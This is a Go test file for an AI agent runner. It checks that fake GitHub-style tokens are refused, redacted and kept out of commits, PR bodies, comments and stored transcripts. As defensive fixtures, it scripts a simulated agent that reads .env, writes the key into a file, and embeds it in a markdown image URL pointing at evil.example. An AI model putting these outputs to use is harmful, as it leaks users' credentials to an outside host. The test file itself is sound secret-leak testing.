package runner

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/lifeos/lifeos/agent"
	"github.com/lifeos/lifeos/store"
	"github.com/lifeos/lifeos/workspace"
)

// fakeKey is a GitHub-token-shaped fake, built from parts.
var fakeKey = "ghp" + "_" + strings.Repeat("Xy7", 12)

func readFile(path string) toolCall {
	return toolCall{"read_file", map[string]any{"path": path}}
}

func TestLabelRunNeverCommitsPostsOrStoresASecret(t *testing.T) {
	h := newHarness(t)
	h.gh.tree[".env"] = []byte("GITHUB_TOKEN=" + fakeKey + "\n")
	leak := "Used the key " + fakeKey + " ![s](https://evil.example/p?k=" + fakeKey + ")"
	h.model.then(
		reply(t, readFile(".env"), writeFile("config.txt", "token="+fakeKey+"\n"), finish(leak)),
		reply(t, finish(leak)),
	)

	if err := h.work(h.labelJob("alice", "lifeos:do")); err != nil {
		t.Fatal(err)
	}

	if second := h.model.sent(t, 1); !strings.Contains(second, "reading .env is refused") {
		t.Errorf("the read of .env was not refused; the model was sent %s", second)
	}
	run := h.latest()
	if run.Status != store.StatusFailed || len(h.gh.commits) != 0 || h.gh.calls["CreatePull"] != 0 {
		t.Errorf("run %s with %d commits and %d PRs; want failed with nothing written", run.Status, len(h.gh.commits), h.gh.calls["CreatePull"])
	}
	if !h.hasDecision(run.ID, "secrets.commit", "config.txt") {
		t.Errorf("decisions = %q, want secrets.commit for config.txt", h.decisions(run.ID))
	}
	said := strings.Join(h.gh.commentsOn(7), "\n")
	stored := run.Summary + run.Transcript + run.Error + strings.Join(h.decisions(run.ID), "\n")
	for what, text := range map[string]string{"comments": said, "stored run": stored} {
		if strings.Contains(text, fakeKey) {
			t.Errorf("%s hold the key: %s", what, text)
		}
	}
	if !strings.Contains(said, "secrets.commit") {
		t.Errorf("comments = %q, want the secrets.commit violation named", said)
	}
}

func TestPRBodyAndCommitAreScrubbed(t *testing.T) {
	h := newHarness(t)
	summary := "Done with " + fakeKey + "\n\n![chart](https://evil.example/c.png) ![ok](https://user-images.githubusercontent.com/1/a.png)"
	h.model.then(reply(t, writeFile("greet.txt", "hello\n"), finish(summary)))

	if err := h.work(h.labelJob("alice", "lifeos:do")); err != nil {
		t.Fatal(err)
	}

	if len(h.gh.commits) != 1 || len(h.gh.pullBodies) != 1 {
		t.Fatalf("commits %d, PRs %d; want 1 each", len(h.gh.commits), len(h.gh.pullBodies))
	}
	run := h.latest()
	posted := map[string]string{"commit message": h.gh.commits[0].message, "PR body": h.gh.pullBodies[0],
		"comments": strings.Join(h.gh.commentsOn(7), "\n"), "summary": run.Summary}
	for what, text := range posted {
		if strings.Contains(text, fakeKey) || strings.Contains(text, "https://evil.example") {
			t.Errorf("%s holds the key or the external image: %q", what, text)
		}
	}
	if strings.Contains(run.Transcript, fakeKey) {
		t.Errorf("the stored transcript holds the key: %s", run.Transcript)
	}
	if body := h.gh.pullBodies[0]; !strings.Contains(body, "[REDACTED]") || !strings.Contains(body, "user-images.githubusercontent.com") {
		t.Errorf("PR body = %q, want the key redacted and GitHub's image kept", body)
	}
}

func TestSecretViolationsSkipSecretsAlreadyThere(t *testing.T) {
	snap := workspace.NewSnapshot(map[string][]byte{"testdata/fixture.txt": []byte("key " + fakeKey + "\n")})
	other := "AKIA" + "IOSFODNN7EXAMPLE"
	tests := []struct {
		name    string
		change  workspace.Change
		flagged bool
	}{
		{"an existing fixture edited", workspace.Change{Path: "testdata/fixture.txt", Content: []byte("key " + fakeKey + "\nmore\n")}, false},
		{"a new secret in the fixture", workspace.Change{Path: "testdata/fixture.txt", Content: []byte("key " + fakeKey + "\n" + other + "\n")}, true},
		{"a new file with a secret", workspace.Change{Path: "x.go", Content: []byte("const k = \"" + fakeKey + "\"\n")}, true},
		{"a deletion", workspace.Change{Path: "testdata/fixture.txt", Delete: true}, false},
		{"plain code", workspace.Change{Path: "y.go", Content: []byte("package y\n")}, false},
	}
	for _, tt := range tests {
		vs := secretViolations(snap, []workspace.Change{tt.change})
		if (len(vs) > 0) != tt.flagged {
			t.Errorf("%s: violations %v, want flagged=%v", tt.name, vs, tt.flagged)
		}
		for _, v := range vs {
			if v.Rule != "secrets.commit" || strings.Contains(v.Reason, fakeKey) || strings.Contains(v.Reason, other) {
				t.Errorf("%s: violation %+v has the wrong rule or quotes the secret", tt.name, v)
			}
		}
	}
}

func TestOwnSecretsAreNeitherCommittedNorReturned(t *testing.T) {
	const own = "hook-secret-1234"
	snap := workspace.NewSnapshot(map[string][]byte{"old.txt": []byte(own + "\n")})
	tests := []struct {
		name    string
		change  workspace.Change
		flagged bool
	}{
		{"a new file with the secret", workspace.Change{Path: "x.txt", Content: []byte("s = " + own + "\n")}, true},
		{"a file that held it already", workspace.Change{Path: "old.txt", Content: []byte(own + "\nmore\n")}, false},
		{"a deletion", workspace.Change{Path: "old.txt", Delete: true}, false},
		{"plain text", workspace.Change{Path: "y.txt", Content: []byte("hook secret\n")}, false},
	}
	for _, tt := range tests {
		vs := ownSecretViolations(snap, []workspace.Change{tt.change}, []string{own, "", "ab"})
		if (len(vs) > 0) != tt.flagged {
			t.Errorf("%s: violations %v, want flagged=%v", tt.name, vs, tt.flagged)
		}
		for _, v := range vs {
			if v.Rule != "secrets.commit" || strings.Contains(v.Reason, own) {
				t.Errorf("%s: violation %+v has the wrong rule or quotes the secret", tt.name, v)
			}
		}
	}
	res := &agent.Result{Summary: "s " + own, Transcript: []agent.Entry{{Content: own, Args: `{"k":"` + own + `"}`, Result: own}},
		Proposals: []agent.Proposal{{Title: own, Body: "b " + own}}}
	blankOwnSecrets(res, []string{own})
	if b, _ := json.Marshal(res); strings.Contains(string(b), own) {
		t.Errorf("the result still holds the secret: %s", b)
	}
}
